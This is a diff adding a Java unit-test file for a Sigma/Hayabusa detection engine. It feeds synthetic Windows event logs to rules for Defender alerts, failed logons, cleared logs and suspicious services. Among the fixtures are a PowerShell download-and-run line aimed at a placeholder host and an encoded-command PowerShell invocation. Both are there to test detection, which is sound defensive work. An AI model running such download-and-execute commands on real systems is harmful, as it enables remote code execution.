@@ -1,0 +1,272 @@
+package org.minivql.sigma;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.io.ByteArrayInputStream;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.Assumptions;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.minivql.QueryOptions;
+import org.minivql.Rows;
+import org.minivql.Vql;
+import org.minivql.accessor.Accessors;
+import org.minivql.accessor.FileRoots;
+import org.minivql.accessor.StandardAccessors;
+import org.minivql.artifact.ArtifactCalls;
+import org.minivql.artifact.Repository;
+import org.minivql.format.Json;
+import org.minivql.spi.HostLogs;
+import org.minivql.value.Dict;
+
+/** The artifacts over rules and logs, and the rules that come with the engine. */
+class HayabusaTest {
+  private static final long NOON = 1_772_452_800;
+  private static final String DEFENDER = "Microsoft-Windows-Windows Defender%4Operational";
+
+  @TempDir private Path folder;
+
+  private final Map<String, StringBuilder> logs = new LinkedHashMap<>();
+  private final List<String> log = new ArrayList<>();
+
+  private void event(String file, String provider, long id, long time, Object data) {
+    Dict system =
+        Dict.of(
+            "Provider",
+            Dict.of("Name", provider),
+            "EventID",
+            Dict.of("Value", id),
+            "Keywords",
+            1L,
+            "TimeCreated",
+            Dict.of("SystemTime", NOON + time + 0.5),
+            "EventRecordID",
+            time + 1,
+            "Channel",
+            file,
+            "Computer",
+            "WS-1");
+    Dict row = Dict.of("System", system, "EventData", data, "Message", "");
+    logs.computeIfAbsent(file + ".evtx", name -> new StringBuilder())
+        .append(Json.text(row))
+        .append('\n');
+  }
+
+  private InputStreamOrNull host() {
+    return name ->
+        logs.containsKey(name)
+            ? new ByteArrayInputStream(logs.get(name).toString().getBytes(StandardCharsets.UTF_8))
+            : null;
+  }
+
+  private interface InputStreamOrNull extends HostLogs {}
+
+  private List<Dict> run(String query, HostLogs host, Path root) {
+    Repository repository = Repository.standard();
+    Vql vql = Vql.builder().namespace(new ArtifactCalls(scope -> repository)).build();
+    log.clear();
+    QueryOptions options =
+        QueryOptions.defaults()
+            .withService(
+                Accessors.class, new StandardAccessors(FileRoots.below(List.of(root), root)))
+            .withLog(line -> log.add(line.text()));
+    if (host != null) {
+      options = options.withService(HostLogs.class, host);
+    }
+    try (Rows rows = vql.compile(query).rows(options)) {
+      return rows.stream().toList();
+    }
+  }
+
+  private List<String> titles(String arguments) {
+    List<Dict> rows =
+        run("SELECT * FROM Artifact.Windows.Hayabusa.Rules(" + arguments + ")", host(), folder);
+    assertThat(log.stream().filter(line -> !line.startsWith("INFO:")).toList())
+        .allMatch(line -> line.contains("the host has no such log"));
+    return rows.stream().map(row -> (String) row.get("Title")).toList();
+  }
+
+  private void threats() {
+    for (int i = 0; i < 3; i++) {
+      event(
+          DEFENDER,
+          "Microsoft-Windows-Windows Defender",
+          1116,
+          i * 100L,
+          Dict.of("Threat Name", "T" + i, "Severity Name", "Severe", "Path", "c:\\x"));
+    }
+  }
+
+  @Test
+  void aDetectionIsARow() {
+    threats();
+    event(DEFENDER, "Microsoft-Windows-Windows Defender", 1000, 0, Dict.EMPTY);
+
+    List<Dict> rows =
+        run(
+            "SELECT * FROM Artifact.Windows.Hayabusa.Rules(RuleTitleFilter='Found A Threat') LIMIT 1",
+            host(),
+            folder);
+
+    assertThat(Json.text(rows))
+        .isEqualTo(
+            "[{\"Timestamp\":\"2026-03-02T12:00:00.5Z\",\"Computer\":\"WS-1\",\"Channel\":\""
+                + DEFENDER
+                + "\",\"EID\":1116,\"Level\":\"critical\",\"Title\":\"Defender Found A Threat\","
+                + "\"RecordID\":1,\"Details\":\"Threat: T0 ¦ Severity: Severe ¦ User:"
+                + " %DetectionUser% ¦ Path: c:\\\\x\",\"_Event\":{\"System\":{\"Provider\":{"
+                + "\"Name\":\"Microsoft-Windows-Windows Defender\"},\"EventID\":{\"Value\":1116},"
+                + "\"TimeCreated\":{\"SystemTime\":1772452800.5},\"EventRecordID\":1,\"Channel\":\""
+                + DEFENDER
+                + "\",\"Computer\":\"WS-1\"},\"EventData\":{\"Threat Name\":\"T0\","
+                + "\"Severity Name\":\"Severe\",\"Path\":\"c:\\\\x\"},\"Message\":\"\"},"
+                + "\"Enrichment\":null,\"_Source\":\"Windows.Hayabusa.Rules\"}]");
+  }
+
+  @Test
+  void timesAreBounds() {
+    threats();
+    assertThat(titles("DateAfter='2026-03-02T12:01:40Z'")).hasSize(2);
+    assertThat(titles("DateBefore='2026-03-02T12:01:40Z'")).hasSize(1);
+    assertThat(titles("DateAfter='2026-03-02T12:01:00Z', DateBefore='2026-03-02T12:02:00Z'"))
+        .hasSize(1);
+    assertThat(titles("")).hasSize(3);
+  }
+
+  @Test
+  void levelsStatusesAndTitlesSelectRules() {
+    threats();
+    event("Security", "Microsoft-Windows-Eventlog", 1102, 0, Dict.EMPTY);
+    event("Security", "Microsoft-Windows-Security-Auditing", 4720, 0, Dict.EMPTY);
+    event(
+        "Microsoft-Windows-TaskScheduler%4Operational",
+        "Microsoft-Windows-TaskScheduler", 106, 0, Dict.of("TaskName", "\\run.ps1"));
+
+    assertThat(titles("RuleLevel='Critical'")).hasSize(3).containsOnly("Defender Found A Threat");
+    assertThat(titles("RuleLevel='Critical and High'")).hasSize(4).contains("Event Log Cleared");
+    assertThat(titles("RuleStatus='Stable'")).doesNotContain("Task Registered By A Script");
+    assertThat(titles("RuleStatus='Stable and Experimental', RuleTitleFilter='^Task'"))
+        .containsExactly("Task Registered By A Script");
+    assertThat(titles("RuleTitleFilter='Account'")).isEmpty();
+    assertThat(titles("RuleTitleFilter='Account', RuleExclusions=[]"))
+        .containsExactly("Account Created");
+  }
+
+  @Test
+  void theOwnRulesFindWhatTheyAreFor() {
+    String auditing = "Microsoft-Windows-Security-Auditing";
+    String powershell = "Microsoft-Windows-PowerShell";
+    event(DEFENDER, "D", 1119, 0, Dict.of("Threat Name", "T"));
+    event(DEFENDER, "D", 5001, 0, Dict.EMPTY);
+    event(DEFENDER, "D", 5007, 0, Dict.of("New Value", "HKLM\\x\\Exclusions\\Paths = 0"));
+    event(DEFENDER, "D", 5007, 0, Dict.of("New Value", "HKLM\\x\\Scan = 0"));
+    event("Security", auditing, 4732, 0, Dict.of("TargetSid", "S-1-5-32-544"));
+    event("Security", auditing, 4732, 0, Dict.of("TargetSid", "S-1-5-32-545"));
+    for (int i = 0; i < 6; i++) {
+      event("Security", auditing, 4625, i * 10L, Dict.of("TargetUserName", "eve"));
+    }
+    event("System", "Microsoft-Windows-Eventlog", 104, 0, Dict.EMPTY);
+    event("System", "Service Control Manager", 7045, 0, Dict.of("ImagePath", "C:\\Temp\\run.exe"));
+    event("System", "Service Control Manager", 7045, 0, Dict.of("ImagePath", "C:\\Windows\\a.exe"));
+    event(
+        powershell + "%4Operational",
+        powershell,
+        4104,
+        0,
+        Dict.of("ScriptBlockText", "iex (New-Object Net.WebClient).downloadstring('http://x')"));
+    event(powershell + "%4Operational", powershell, 4104, 0, Dict.of("ScriptBlockText", "ls"));
+    event(
+        "Microsoft-Windows-Sysmon%4Operational",
+        "Microsoft-Windows-Sysmon",
+        1,
+        0,
+        Dict.of(
+            "Image",
+            "C:\\Windows\\System32\\PowerShell.exe",
+            "CommandLine",
+            "powershell.exe -enc " + "SQBFAFgA".repeat(6)));
+
+    assertThat(titles("RuleExclusions=[]"))
+        .containsExactlyInAnyOrder(
+            "Defender Could Not Remove A Threat",
+            "Defender Protection Switched Off",
+            "Defender Protection Switched Off",
+            "Account Added To Administrators",
+            "Burst Of Failed Logons",
+            "Burst Of Failed Logons",
+            "System Log Cleared",
+            "Service Runs From An Unusual Place",
+            "Suspicious PowerShell Script",
+            "PowerShell Started With An Encoded Command");
+  }
+
+  @Test
+  void rulesMayComeFromAFolder() throws IOException {
+    threats();
+    Files.createDirectories(folder.resolve("mine/deep"));
+    Files.writeString(
+        folder.resolve("mine/deep/a.yml"),
+        "title: Mine\nlogsource: {product: windows, service: windefend}\n"
+            + "detection: {s: {ThreatName: T1}}\nlevel: low\n");
+    Files.writeString(folder.resolve("mine/b.yaml"), "title: Broken\n");
+
+    List<Dict> rows =
+        run(
+            "SELECT * FROM Artifact.Windows.Hayabusa.Rules(RuleFolder='"
+                + folder.resolve("mine")
+                + "')",
+            host(),
+            folder);
+
+    assertThat(rows).extracting(row -> row.get("Title")).containsExactly("Mine");
+    assertThat(log)
+        .contains("sigma: Error parsing: b.yaml:1:1: No logsource specified in rule 'Broken'");
+  }
+
+  @Test
+  void theOwnRulesHaveNoProblems() {
+    List<Dict> rows =
+        run(
+            "LET Own <= SELECT Rule FROM sigma_rules() SELECT * FROM sigma(rules=Own.Rule,"
+                + " log_sources=sigma_log_sources(`*/a/*`={ SELECT * FROM scope() }))",
+            host(),
+            folder);
+
+    assertThat(rows).isEmpty();
+    assertThat(log).hasSize(2).allMatch(line -> line.startsWith("INFO:"));
+    assertThat(log.get(0)).contains("(from 14)");
+  }
+
+  @Test
+  void realLogsMeetARealRule() throws IOException {
+    Path data =
+        Path.of(System.getProperty("vql.shared.dir", "../shared"))
+            .resolve("data/evtx")
+            .toAbsolutePath()
+            .normalize();
+    Assumptions.assumeTrue(Files.isDirectory(data), () -> "no event logs: " + data);
+
+    List<Dict> rows =
+        run(
+            "SELECT System.EventRecordID AS ID, _Match.search_results AS R"
+                + " FROM Artifact.Windows.Sigma.EventLogs(EventLogDirectory='"
+                + data
+                + "', InlineSigmaRules=read_file(filename='"
+                + data.resolve("proc_creation_win_whoami_as_system.yml")
+                + "'))",
+            null,
+            data);
+
+    assertThat(Json.text(rows))
+        .isEqualTo(
+            "[{\"ID\":196375,\"R\":{\"process_creation\":true,\"selection_img\":true,"
+                + "\"selection_user\":true}}]");
+  }
+}
